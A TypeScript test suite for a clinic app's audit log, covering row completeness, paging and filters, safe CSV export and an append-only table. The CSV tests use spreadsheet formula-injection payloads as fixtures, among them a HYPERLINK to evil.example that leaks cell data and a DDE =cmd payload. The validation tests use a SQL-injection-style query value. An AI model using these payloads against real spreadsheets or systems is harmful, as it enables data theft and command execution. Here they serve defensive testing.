// The audit log: every scripted action leaves exactly one row with the right
// who/what/where and no data values; the admin's view filters and pages
// without gaps; the CSV export is safe to open in a spreadsheet and is itself
// on the record; and the database refuses to change or delete a row.
import { randomUUID } from 'node:crypto';
import { notInArray, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditEvents, users } from '../src/db/schema.ts';
import { csvCell } from '../src/server/features/audit/csv.ts';
import { createTestApp, TEST_DEMO_PASSWORD, type TestApp } from './support/app.ts';
import { loginAs, type Agent } from './support/auth.ts';
import {
  createClinic,
  createPatient,
  createStaff,
  demoClinic,
  demoIds,
  type TestPatient,
} from './support/factories.ts';

let t: TestApp;
let demoClinicId: string;
let ids: Awaited<ReturnType<typeof demoIds>>;
let admin: Agent;
let practitioner: Agent;
let frontDesk: Agent;
let patient: Agent;
let otherClinicPatient: TestPatient;

const USER_AGENT = 'puncta-audit-test/1.0';

type AuditRow = typeof auditEvents.$inferSelect;

beforeAll(async () => {
  t = await createTestApp();
  demoClinicId = (await demoClinic(t.database)).clinicId;
  ids = await demoIds(t.database);
  const other = await createClinic(t.database, { name: 'Other Group Clinic' });
  otherClinicPatient = await createPatient(t.database, { clinicId: other.clinicId, givenName: 'Quinn' });
  admin = await loginAs(t, 'admin@demo.puncta.test');
  practitioner = await loginAs(t, 'practitioner1@demo.puncta.test');
  frontDesk = await loginAs(t, 'frontdesk@demo.puncta.test');
  patient = await loginAs(t, 'patient1@demo.puncta.test');
});
afterAll(async () => {
  await t?.close();
});

async function allRowIds(): Promise<string[]> {
  const rows = await t.database.db.select({ id: auditEvents.id }).from(auditEvents);
  return rows.map((row) => row.id);
}

/** Runs one request and returns its response with the audit rows it added. */
async function audited(agent: Agent, request: Parameters<Agent['inject']>[0] & { headers?: Record<string, string> }) {
  const before = await allRowIds();
  const requestId = `audit-${randomUUID()}`;
  const response = await agent.inject({
    ...request,
    headers: { ...request.headers, 'x-request-id': requestId, 'user-agent': USER_AGENT },
  });
  const rows: AuditRow[] = await t.database.db
    .select()
    .from(auditEvents)
    .where(before.length === 0 ? undefined : notInArray(auditEvents.id, before));
  return { response, rows, requestId };
}

/** Words that must never appear in an audit row: data values, secrets. */
const FORBIDDEN_VALUES = [
  'Sam',
  'Patel',
  'Riley',
  '1991-04-12',
  'patient1@',
  '@demo.puncta.test',
  '+1 555',
  'Fitzpatrick',
  TEST_DEMO_PASSWORD,
  'argon2',
];

function expectNoDataValues(row: AuditRow): void {
  const text = JSON.stringify(row);
  for (const value of FORBIDDEN_VALUES) expect(text, `audit row holds "${value}"`).not.toContain(value);
}

function expectOneRow(
  result: Awaited<ReturnType<typeof audited>>,
  expected: {
    userEmail: string;
    role: string;
    action: string;
    outcome?: 'allowed' | 'denied' | 'failed';
    resourceType: string | null;
    resourceId: string | null;
    patientId: string | null;
    clinicId?: string;
  },
): AuditRow {
  expect(result.rows, JSON.stringify(result.rows)).toHaveLength(1);
  const row = result.rows[0]!;
  expect(row).toMatchObject({
    userId: ids.userIdOf(expected.userEmail),
    role: expected.role,
    clinicId: expected.clinicId ?? demoClinicId,
    action: expected.action,
    resourceType: expected.resourceType,
    resourceId: expected.resourceId,
    patientId: expected.patientId,
    requestId: result.requestId,
    ip: '127.0.0.1',
    userAgent: USER_AGENT,
    outcome: expected.outcome ?? 'allowed',
  });
  // Stored as UTC instants, and just now.
  expect(Math.abs(row.occurredAt.getTime() - Date.now())).toBeLessThan(60_000);
  expectNoDataValues(row);
  return row;
}

describe('audit completeness: one row per action, with the right fields and no data', () => {
  it('a practitioner reading a patient record', async () => {
    const patientId = ids.patientIdOf('patient1@demo.puncta.test');
    const result = await audited(practitioner, { method: 'GET', url: `/api/v1/patients/${patientId}` });
    expect(result.response.statusCode).toBe(200);
    expectOneRow(result, {
      userEmail: 'practitioner1@demo.puncta.test',
      role: 'practitioner',
      action: 'read',
      resourceType: 'patient',
      resourceId: patientId,
      patientId,
    });
  });

  it('front desk listing patients', async () => {
    const result = await audited(frontDesk, { method: 'GET', url: '/api/v1/patients' });
    expect(result.response.statusCode).toBe(200);
    expectOneRow(result, {
      userEmail: 'frontdesk@demo.puncta.test',
      role: 'front_desk',
      action: 'read',
      resourceType: 'patient_list',
      resourceId: null,
      patientId: null,
    });
  });

  it('a patient reading their own record', async () => {
    const patientId = ids.patientIdOf('patient1@demo.puncta.test');
    const result = await audited(patient, { method: 'GET', url: '/api/v1/me/patient' });
    expect(result.response.statusCode).toBe(200);
    expectOneRow(result, {
      userEmail: 'patient1@demo.puncta.test',
      role: 'patient',
      action: 'read',
      resourceType: 'patient',
      resourceId: patientId,
      patientId,
    });
  });

  it("a practitioner asking for another organization's patient: 404 and access_denied", async () => {
    const patientId = otherClinicPatient.patientId;
    const result = await audited(practitioner, { method: 'GET', url: `/api/v1/patients/${patientId}` });
    expect(result.response.statusCode).toBe(404);
    expectOneRow(result, {
      userEmail: 'practitioner1@demo.puncta.test',
      role: 'practitioner',
      action: 'access_denied',
      outcome: 'denied',
      resourceType: 'patient',
      resourceId: patientId,
      patientId,
    });
    expect(JSON.stringify(result.rows[0])).not.toContain('Quinn');
  });

  it('front desk calling an admin route: 403 and access_denied', async () => {
    const result = await audited(frontDesk, { method: 'GET', url: '/api/v1/staff' });
    expect(result.response.statusCode).toBe(403);
    expect(result.rows).toHaveLength(1);
    expect(result.rows[0]).toMatchObject({
      action: 'access_denied',
      outcome: 'denied',
      role: 'front_desk',
      requestId: result.requestId,
    });
  });

  it('an admin inviting, changing a role, ending sessions and deactivating', async () => {
    const member = await createStaff(t.database, { clinicId: demoClinicId, role: 'practitioner' });
    const staffRow = (action: string) => ({
      userEmail: 'admin@demo.puncta.test',
      role: 'clinic_admin',
      action,
      resourceType: 'staff_member',
      resourceId: member.userId,
      patientId: null,
    });
    const idsNow = async () => demoIds(t.database);

    const invited = await audited(admin, {
      method: 'POST',
      url: '/api/v1/staff/invitations',
      payload: { email: 'new.nurse@people.test', displayName: 'New Nurse', role: 'practitioner' },
    });
    expect(invited.response.statusCode).toBe(202);
    ids = await idsNow();
    const invitedRow = expectOneRow(invited, {
      ...staffRow('staff_invited'),
      resourceId: ids.userIdOf('new.nurse@people.test'),
    });
    expect(JSON.stringify(invitedRow)).not.toContain('new.nurse');

    const changed = await audited(admin, {
      method: 'PATCH',
      url: `/api/v1/staff/${member.userId}`,
      payload: { role: 'front_desk' },
    });
    expect(changed.response.statusCode).toBe(200);
    expectOneRow(changed, staffRow('role_changed'));

    const revoked = await audited(admin, { method: 'POST', url: `/api/v1/staff/${member.userId}/sessions/revoke` });
    expect(revoked.response.statusCode).toBe(204);
    expectOneRow(revoked, staffRow('session_revoked'));

    const deactivated = await audited(admin, { method: 'POST', url: `/api/v1/staff/${member.userId}/deactivate` });
    expect(deactivated.response.statusCode).toBe(200);
    expectOneRow(deactivated, staffRow('staff_deactivated'));
  });

  it('a refused change leaves no "allowed" row behind', async () => {
    const adminId = ids.userIdOf('admin@demo.puncta.test');
    const result = await audited(admin, {
      method: 'PATCH',
      url: `/api/v1/staff/${adminId}`,
      payload: { role: 'practitioner' },
    });
    expect(result.response.statusCode).toBe(409);
    expect(result.rows).toEqual([]);
  });

  it('an admin exporting the log', async () => {
    const patientId = ids.patientIdOf('patient2@demo.puncta.test');
    const result = await audited(admin, { method: 'GET', url: `/api/v1/audit-events.csv?patientId=${patientId}` });
    expect(result.response.statusCode).toBe(200);
    expectOneRow(result, {
      userEmail: 'admin@demo.puncta.test',
      role: 'clinic_admin',
      action: 'export',
      resourceType: 'audit_events',
      resourceId: null,
      patientId,
    });
  });
});

interface AuditPage {
  events: { id: string; occurredAt: string; action: string; actorName: string | null; userAgent: string | null }[];
  nextCursor: string | null;
}

describe('GET /api/v1/audit-events', () => {
  const ACTION = 'test_paging';
  let expectedOrder: string[];

  beforeAll(async () => {
    // 130 events in three bursts: many share one instant (ties broken by id), some
    // differ only in microseconds, which a millisecond cursor would lose.
    const instants = [
      ...Array.from({ length: 60 }, () => '2024-05-01T10:00:00.000000Z'),
      ...Array.from({ length: 40 }, (_, index) => `2024-05-01T10:00:00.000${String(index + 1).padStart(3, '0')}Z`),
      ...Array.from({ length: 30 }, (_, index) => `2024-05-02T09:${String(index).padStart(2, '0')}:00.000000Z`),
    ];
    const rows = await t.database.db
      .insert(auditEvents)
      .values(
        instants.map((instant) => ({
          occurredAt: sql`${instant}::timestamptz`,
          userId: ids.userIdOf('practitioner1@demo.puncta.test'),
          role: 'practitioner',
          clinicId: demoClinicId,
          action: ACTION,
          outcome: 'allowed' as const,
        })),
      )
      .returning({ id: auditEvents.id, occurredAt: sql<string>`to_char(occurred_at, 'YYYYMMDDHH24MISSUS')` });
    expectedOrder = rows
      .sort((a, b) =>
        a.occurredAt === b.occurredAt ? b.id.localeCompare(a.id) : b.occurredAt.localeCompare(a.occurredAt),
      )
      .map((row) => row.id);
    // The same action in another clinic: never shown to this clinic's admin.
    const other = await createClinic(t.database);
    await t.database.db
      .insert(auditEvents)
      .values({ clinicId: other.clinicId, action: ACTION, outcome: 'allowed', role: 'clinic_admin' });
  });

  async function page(query: string): Promise<AuditPage> {
    const response = await admin.inject({ method: 'GET', url: `/api/v1/audit-events?${query}` });
    expect(response.statusCode, response.body).toBe(200);
    return response.json<AuditPage>();
  }

  it('pages through every event exactly once, newest first, ties broken by id', async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const result: AuditPage = await page(
        `action=${ACTION}&limit=25${cursor === null ? '' : `&cursor=${encodeURIComponent(cursor)}`}`,
      );
      seen.push(...result.events.map((event) => event.id));
      cursor = result.nextCursor;
      pages += 1;
    } while (cursor !== null && pages < 20);
    expect(pages).toBe(6);
    expect(seen).toEqual(expectedOrder);
  });

  it("names the actor and shows only this clinic's events", async () => {
    const result = await page(`action=${ACTION}&limit=200`);
    expect(result.events).toHaveLength(130);
    expect(result.nextCursor).toBeNull();
    expect(result.events[0]).toMatchObject({ actorName: 'Dr. Maya Okafor', action: ACTION });
  });

  it('filters by time range (from inclusive, to exclusive), user and patient', async () => {
    const day = await page(`action=${ACTION}&from=2024-05-02T00:00:00Z&to=2024-05-02T09:10:00Z&limit=200`);
    expect(day.events).toHaveLength(10);
    const nobody = await page(`action=${ACTION}&userId=${ids.userIdOf('frontdesk@demo.puncta.test')}`);
    expect(nobody.events).toEqual([]);
    const someone = await page(`action=${ACTION}&userId=${ids.userIdOf('practitioner1@demo.puncta.test')}&limit=5`);
    expect(someone.events).toHaveLength(5);

    const patientId = ids.patientIdOf('patient1@demo.puncta.test');
    await practitioner.inject({ method: 'GET', url: `/api/v1/patients/${patientId}` });
    const reads = await page(`patientId=${patientId}&action=read`);
    expect(reads.events.length).toBeGreaterThan(0);
    expect(reads.events.every((event) => event.action === 'read')).toBe(true);
  });

  it('rejects a forged cursor, an unknown filter and an oversized page', async () => {
    for (const query of [
      'cursor=bm90LWEtY3Vyc29y',
      `cursor=${Buffer.from(JSON.stringify(['2024-05-01', 'x'])).toString('base64url')}`,
      'patient_id=6c1d3a52-0d5e-4f4e-9d43-2f0a6f1f2a11',
      'limit=1000',
      'from=yesterday',
      "action=read'--",
    ]) {
      const response = await admin.inject({ method: 'GET', url: `/api/v1/audit-events?${query}` });
      expect(response.statusCode, query).toBe(400);
      expect(response.json()).toMatchObject({ code: 'validation_failed' });
    }
  });
});

/** Reads RFC 4180 CSV (quoted fields, doubled quotes, CRLF) into rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index]!;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index += 1;
    } else cell += char;
  }
  expect(cell).toBe('');
  return rows;
}

describe('GET /api/v1/audit-events.csv', () => {
  const hostile = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    '+1+2',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    'plain, with a comma',
    'a "quoted" word',
    'two\r\nlines',
  ];

  it('escapes every cell and defuses formulas', async () => {
    const [attacker] = await t.database.db
      .insert(users)
      .values({ email: 'formula@people.test', displayName: '=cmd|"/c calc"!A1' })
      .returning({ id: users.id });
    await t.database.db.insert(auditEvents).values(
      hostile.map((userAgent) => ({
        clinicId: demoClinicId,
        userId: attacker!.id,
        action: 'test_csv',
        outcome: 'failed' as const,
        userAgent,
      })),
    );
    const response = await admin.inject({ method: 'GET', url: '/api/v1/audit-events.csv?action=test_csv' });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="audit-events-\d{4}-\d\d-\d\d\.csv"$/,
    );
    const rows = parseCsv(response.body);
    const header = rows[0]!;
    expect(header).toEqual([
      'id',
      'occurred_at',
      'user_id',
      'actor_name',
      'role',
      'action',
      'resource_type',
      'resource_id',
      'patient_id',
      'request_id',
      'ip',
      'user_agent',
      'outcome',
    ]);
    const body = rows.slice(1);
    expect(body).toHaveLength(hostile.length);
    const column = (name: string) => body.map((row) => row[header.indexOf(name)]);
    expect(new Set(column('actor_name'))).toEqual(new Set(['\'=cmd|"/c calc"!A1']));
    expect(column('user_agent').sort()).toEqual(
      [
        '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "'+1+2",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'\t=1+1",
        'plain, with a comma',
        'a "quoted" word',
        'two\r\nlines',
      ].sort(),
    );
    // No cell, quoted or not, starts with a formula character once the CSV is read.
    for (const cell of body.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(column('occurred_at').every((value) => !Number.isNaN(Date.parse(value!)))).toBe(true);
  });

  it('applies the same filters and never lists another clinic', async () => {
    const response = await admin.inject({ method: 'GET', url: '/api/v1/audit-events.csv?action=test_paging' });
    expect(parseCsv(response.body)).toHaveLength(131);
    const bad = await admin.inject({ method: 'GET', url: '/api/v1/audit-events.csv?clinicId=x' });
    expect(bad.statusCode).toBe(400);
  });
});

describe('csvCell', () => {
  it('leaves plain text alone and quotes what needs quoting', () => {
    expect(csvCell('read')).toBe('read');
    expect(csvCell(null)).toBe('');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('x\ny')).toBe('"x\ny"');
  });

  it('prefixes cells a spreadsheet would evaluate', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']) {
      expect(csvCell(`${start}1`).replace(/^"/, '')).toMatch(/^'/);
    }
    expect(csvCell('2024-05-01T10:00:00.000Z')).toBe('2024-05-01T10:00:00.000Z');
  });
});

describe('the audit table is append-only at the database', () => {
  it('refuses UPDATE, DELETE and TRUNCATE through raw SQL', async () => {
    const before = await allRowIds();
    expect(before.length).toBeGreaterThan(0);
    await expect(t.database.executeSql("update audit_events set action = 'tampered'")).rejects.toThrow(/append-only/);
    await expect(t.database.executeSql('delete from audit_events')).rejects.toThrow(/append-only/);
    await expect(t.database.executeSql('delete from audit_events where id = $1', [before[0]])).rejects.toThrow(
      /append-only/,
    );
    await expect(t.database.executeSql('truncate audit_events')).rejects.toThrow(/append-only/);
    expect((await allRowIds()).sort()).toEqual([...before].sort());
    const tampered = await t.database.executeSql(
      "select count(*)::int as n from audit_events where action = 'tampered'",
    );
    expect(tampered.rows[0]).toEqual({ n: 0 });
  });
});
